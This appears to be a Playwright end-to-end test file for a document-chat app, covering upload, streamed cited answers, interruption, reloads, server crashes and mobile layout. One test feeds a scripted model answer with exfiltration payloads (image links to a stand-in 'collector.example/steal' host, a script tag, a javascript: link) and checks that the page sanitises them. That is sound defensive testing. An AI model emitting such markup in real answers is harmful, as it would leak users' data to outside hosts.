// The main job in a real browser: set up the owner, upload a real PDF, ask, watch the answer stream, open its source.
// And what goes wrong on the way: stopping, reloading, a model that dies, a server that dies, eight tabs at once.
// With SCREENSHOTS=1 the pictures of the README are taken anew.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { gunzipSync } from 'node:zlib'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { type ScriptedModel, startScriptedModel } from '../api/test/scripted-model.ts'
import { accessibilityFaults } from './chat/accessibility.ts'
import {
  ask,
  chooseModel,
  markInView,
  observeAnswers,
  openStreams,
  seenAnswers,
  textOf,
  untilState,
  words,
} from './chat/chat-page.ts'
import { hasChromium, launchBrowser } from './harness/browser.ts'
import { OWNER, type Session, signIn } from './harness/people.ts'
import { type RunningTerrace, startTerrace } from './harness/terrace.ts'

const PDF = '/usr/share/doc/debian/FAQ/debian-faq.en.pdf.gz'
const IMAGES = path.resolve(import.meta.dirname, '../docs/images')
const QUESTION = 'How do I upgrade all packages with apt?'

interface Cited {
  documentId: string
  documentName: string
  versionId: string
  page: number
  charStart: number
  charEnd: number
}
interface StoredChat {
  messages: { id: string; role: string; text: string; citations: Cited[] }[]
}

describe.skipIf(!hasChromium || !existsSync(PDF))('asking and citing', () => {
  let model: ScriptedModel
  let terrace: RunningTerrace
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let owner: Session
  let collectionId = ''
  /** Requests to anywhere but here, and what broke on a page. */
  const faults: string[] = []

  beforeAll(async () => {
    model = await startScriptedModel()
    const offer = (id: string, name: string, knobs: string) => ({
      id,
      name,
      type: 'openai-compatible',
      url: model.url,
      model: `scripted?${knobs}`,
    })
    const MODELS = JSON.stringify([
      offer('scripted', 'Scripted', 'delay=4000&rate=25'),
      offer('slow', 'Slow', 'rate=10&tokens=160'),
      offer('dying', 'Dying', 'rate=30&die=12'),
    ])
    terrace = await startTerrace({ env: { MODELS } })
    browser = await launchBrowser()
    context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
    page = await context.newPage()
    await observeAnswers(page)
    page.on('pageerror', (error) => faults.push(error.message))
    context.on('request', (request) => {
      const { protocol, origin } = new URL(request.url())
      if (/^http/.test(protocol) && origin !== terrace.url) faults.push(`a request to ${origin}`)
    })
  })
  afterAll(async () => {
    await browser?.close()
    await terrace?.[Symbol.asyncDispose]()
    await model?.close()
    expect(faults).toEqual([])
  })

  /** A chat over the collection, open in a tab. */
  async function openChat(tab: Page, modelId: string): Promise<string> {
    const { id } = await owner.mutate<{ id: string }>('chats.create', {
      collectionIds: [collectionId],
      model: modelId,
    })
    await tab.goto(`${terrace.url}/chats/${id}`)
    await tab.getByLabel('Your question').waitFor()
    return id
  }

  async function storedText(chatId: string): Promise<string> {
    const chat = await owner.query<StoredChat>('chats.get', { id: chatId })
    return chat.messages.at(-1)?.text ?? ''
  }

  async function picture(name: string): Promise<void> {
    if (process.env.SCREENSHOTS !== '1') return
    mkdirSync(IMAGES, { recursive: true })
    await page.screenshot({ path: path.join(IMAGES, name), animations: 'disabled' })
  }

  test('the owner is set up by the link and uploads a real PDF', async () => {
    await page.goto(terrace.setupLink ?? '')
    await page.getByLabel('Your name').fill(OWNER.name)
    await page.getByLabel('E-mail address').fill(OWNER.email)
    await page.getByLabel('Choose a password').fill(OWNER.password)
    await page.getByRole('button', { name: 'Create the account' }).click()
    await page.getByRole('heading', { name: 'Welcome to Terrace' }).waitFor()
    owner = await signIn(terrace, OWNER)

    await page.getByRole('button', { name: 'New collection' }).click()
    await page.getByLabel('Name').fill('Debian')
    await page.getByRole('button', { name: 'Create the collection' }).click()
    await page.waitForURL(/\/collections\/[0-9a-f-]{36}$/)
    collectionId = page.url().split('/').at(-1) ?? ''
    const file = path.join(terrace.home, 'debian-faq.pdf')
    writeFileSync(file, gunzipSync(readFileSync(PDF)))
    await page.locator('input[type=file]').first().setInputFiles(file)
    await page.getByText('debian-faq.pdf').first().waitFor()
    await vi.waitFor(
      async () => {
        const { items } = await owner.query<{ items: { version: { stage: string } }[] }>('documents.list', {
          collectionId,
        })
        expect(items.map(({ version }) => version.stage)).toEqual(['searchable'])
      },
      { timeout: 150_000, interval: 500 },
    )
  })

  test('an answer says what is happening, streams, and cites what can be opened', async () => {
    await page.goto(`${terrace.url}/chats/new`)
    const answer = await ask(page, QUESTION)
    await page.waitForURL(/\/chats\/[0-9a-f-]{36}$/)
    await untilState(answer, 'done')

    const seen = await seenAnswers(page)
    const before = seen.filter(({ text }) => text === '').map(({ status }) => status)
    // Searching is over in milliseconds: on a quick machine the page only sees what follows.
    expect(before).toContainEqual(expect.stringMatching(/^Reading \d+ passages?$/))
    const texts = [...new Set(seen.map(({ text }) => text).filter((text) => text !== ''))]
    expect(texts.length).toBeGreaterThan(5)
    const chatId = page.url().split('/').at(-1) ?? ''
    expect(words(texts.at(-1) ?? '')).toBe(words(await storedText(chatId)))

    const citation = answer.locator('[data-citation="1"]').first()
    await citation.click()
    await page.locator('mark[data-passage-mark]').first().waitFor()
    expect(await markInView(page)).toBe(true)
    const cited = (await owner.query<StoredChat>('chats.get', { id: chatId })).messages.at(-1)?.citations[0]
    if (cited === undefined) throw new Error('the answer has no citation')
    await page.getByRole('complementary', { name: 'Source' }).getByText(cited.documentName).waitFor()
    expect(await page.getByLabel('Go to page').inputValue()).toBe(String(cited.page))
    const { documentId, versionId, page: number, charStart, charEnd } = cited
    const place = { id: documentId, versionId, number }
    const { text } = await owner.query<{ text: string }>('documents.page', place)
    const marked = await page.locator('mark[data-passage-mark]').allInnerTexts()
    expect(words(marked.join(''))).toBe(words(text.slice(charStart, charEnd)))
    expect(await accessibilityFaults(page)).toEqual([])
    await page.emulateMedia({ colorScheme: 'dark' })
    expect(await accessibilityFaults(page)).toEqual([])
    await page.emulateMedia({ colorScheme: 'light' })

    // Escape closes the source and gives the focus back to the number.
    await page.keyboard.press('Escape')
    expect(await page.locator('mark[data-passage-mark]').count()).toBe(0)
    expect(await page.evaluate('document.activeElement.dataset.citation')).toBe('1')
  })

  test('stopping stops the model and keeps what had arrived', async () => {
    const chatId = await openChat(page, 'slow')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'streaming')
    await vi.waitFor(async () => expect((await textOf(answer)).length).toBeGreaterThan(30), {
      timeout: 20_000,
    })
    await page.getByLabel('Stop answering').click()
    await untilState(answer, 'stopped')
    const request = model.requests.at(-1)
    await vi.waitFor(() => expect(request?.aborted).toBe(true), { timeout: 5_000 })
    expect(request?.sent).toBeLessThan(160)
    const text = await textOf(answer)
    expect(words(text)).toBe(words(await storedText(chatId)))
    await page.reload()
    await untilState(answer, 'stopped')
    expect(await textOf(answer)).toBe(text)
  })

  test('a reload in the middle goes on where it was', async () => {
    const chatId = await openChat(page, 'slow')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'streaming')
    await vi.waitFor(async () => expect((await textOf(answer)).length).toBeGreaterThan(100), {
      timeout: 20_000,
    })
    const before = words(await textOf(answer))
    const asked = page.waitForRequest((request) => request.url().includes('chats.watch'))
    await page.reload()
    // The stream is asked for from the offset that was shown, not from the beginning.
    const resumed = /lastEventId":"1:(\d+)"/.exec(decodeURIComponent((await asked).url()))
    expect(Number(resumed?.[1])).toBeGreaterThanOrEqual(before.length)
    await untilState(answer, 'done')
    const texts = (await seenAnswers(page)).map(({ text }) => words(text)).filter((text) => text !== '')
    // From the first look on, everything that was there before is there again, and nothing ever goes back.
    for (const [n, text] of texts.entries()) {
      expect(text.startsWith(before)).toBe(true)
      expect(text.length).toBeGreaterThanOrEqual(texts[n - 1]?.length ?? 0)
    }
    expect(texts.at(-1)).toBe(words(await storedText(chatId)))
  })

  test('an answer that tries to reach out asks for nothing and runs nothing', async () => {
    const url = 'https://collector.example/steal'
    model.script({
      text: `![words](${url}?q=1) <img src="${url}"> <script>document.title='run'</script> [click](javascript:alert(1)) [here](${url}) done [1].`,
    })
    await openChat(page, 'scripted')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'done')
    model.script({})
    expect(await answer.locator('img, script, iframe').count()).toBe(0)
    expect(
      await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))),
    ).toEqual([url])
    expect(await page.title()).not.toBe('run')
    expect(faults).toEqual([])
  })

  test('a model that dies leaves its words, a code, and a way on', async () => {
    await openChat(page, 'dying')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'failed')
    expect(words(await textOf(answer)).length).toBeGreaterThan(10)
    await answer.getByText(/^Code MODEL_/).waitFor()
    await chooseModel(page, 'Scripted')
    await answer.getByRole('button', { name: 'Try again' }).click()
    await untilState(answer, 'done')
    expect(await answer.locator('[data-citation]').count()).toBeGreaterThan(0)
  })

  test('an API that is killed in the middle comes back and the answer is written to its end', async () => {
    const chatId = await openChat(page, 'slow')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'streaming')
    for (const pid of terrace.processes().api ?? []) process.kill(pid, 'SIGKILL')
    await untilState(answer, 'done')
    expect(words(await textOf(answer))).toBe(words(await storedText(chatId)))
  })

  test('without a language model the most relevant passages are quoted', async () => {
    await openChat(page, 'scripted')
    await chooseModel(page, 'Most relevant passages')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'done')
    await answer.getByRole('heading', { name: 'Most relevant passages' }).waitFor()
    const quotes = answer.locator('blockquote')
    expect(await quotes.count()).toBeGreaterThan(1)
    expect(await quotes.first().locator('mark').allInnerTexts()).toContainEqual(
      expect.stringMatching(/upgrade|package|apt/i),
    )
    await answer.locator('[data-source="1"]').click()
    await page.locator('mark[data-passage-mark]').first().waitFor()
    expect(await markInView(page)).toBe(true)
    await picture('passages.png')
  })

  test('eight tabs at once: at most two stream, all show the whole answer, and requests still get through', async () => {
    const streams = openStreams(page)
    const tabs = [page, ...(await Promise.all(Array.from({ length: 7 }, () => context.newPage())))]
    const chats = await Promise.all(tabs.map((tab) => openChat(tab, 'slow')))
    const answers = await Promise.all(tabs.map((tab) => ask(tab, QUESTION)))
    await Promise.all(answers.map((answer) => untilState(answer, 'streaming', 'done')))
    // A tab that is turned to takes a stream from another one; for that moment there are three.
    await vi.waitFor(() => expect(streams()).toBeLessThanOrEqual(2), { timeout: 10_000, interval: 50 })
    const states = await Promise.all(answers.map((answer) => answer.getAttribute('data-state')))
    expect(states).toContain('streaming')
    expect(await tabs[7]?.evaluate('fetch("/api/trpc/people.me").then((r) => r.status)')).toBe(200)
    await Promise.all(answers.map((answer) => untilState(answer, 'done')))
    for (const [n, answer] of answers.entries())
      expect(words(await textOf(answer))).toBe(words(await storedText(chats[n] ?? '')))
    await Promise.all(tabs.slice(1).map((tab) => tab.close()))
  })

  test('a file dropped into a chat is asked there', async () => {
    await page.goto(`${terrace.url}/chats/new`)
    const file = path.join(terrace.home, 'canteen.md')
    writeFileSync(file, '# Canteen\n\nThe canteen of the Terrace building serves lentil soup on Thursdays.\n')
    await page.locator('form input[type=file]').setInputFiles(file)
    await page.waitForURL(/\/chats\/[0-9a-f-]{36}$/)
    await page.locator('[data-file-state=ready]').waitFor({ timeout: 60_000 })
    const answer = await ask(page, 'When is there lentil soup?')
    await untilState(answer, 'done')
    expect(await textOf(answer)).toContain('lentil soup on Thursdays')

    // Deleting the file takes the words out of its source at once.
    await page.getByLabel('Remove canteen.md from this chat').click()
    await page.locator('[data-file-state]').waitFor({ state: 'detached' })
    await page.reload()
    await answer.locator('[data-citation="1"]').first().click()
    await page
      .getByRole('complementary', { name: 'Source' })
      .getByText('no longer available')
      .first()
      .waitFor()
  })

  test('on a phone the source is a sheet over the chat', async () => {
    await page.setViewportSize({ width: 360, height: 740 })
    await openChat(page, 'scripted')
    const answer = await ask(page, QUESTION)
    await untilState(answer, 'done')
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360)
    expect(await accessibilityFaults(page)).toEqual([])
    await answer.locator('[data-citation="1"]').first().click()
    await page.getByRole('dialog', { name: 'Source' }).locator('mark[data-passage-mark]').first().waitFor()
    expect(await markInView(page)).toBe(true)
    await page.keyboard.press('Escape')
    await page.getByRole('dialog', { name: 'Source' }).waitFor({ state: 'hidden' })
    await page.setViewportSize({ width: 1280, height: 800 })
  })

  // A language model says it in its own words; here the words are given, and the passages they cite are real.
  test.runIf(process.env.SCREENSHOTS === '1')('the pictures of the README', async () => {
    model.script({
      rate: 30,
      text: 'Run `apt update` first, so that the list of packages is fresh. Then:\n\n- **`apt upgrade`** upgrades every package, without installing extra ones or removing any [1].\n- **`apt full-upgrade`** also installs or removes packages where an upgrade needs it [1].\n\nBoth have to be run as root [1]. `apt-get` does the same from scripts [2].',
    })
    for (const [name, colorScheme, width, height] of [
      ['ask-light.png', 'light', 1280, 800],
      ['ask-dark.png', 'dark', 1280, 800],
      ['ask-phone.png', 'light', 360, 740],
    ] as const) {
      await page.setViewportSize({ width, height })
      await page.emulateMedia({ colorScheme })
      await openChat(page, 'scripted')
      const answer = await ask(page, QUESTION)
      await untilState(answer, 'done')
      if (width > 1000) {
        await answer.locator('[data-citation="1"]').first().click()
        await page.locator('mark[data-passage-mark]').first().waitFor()
      }
      await picture(name)
    }
    model.script({})
  })
})
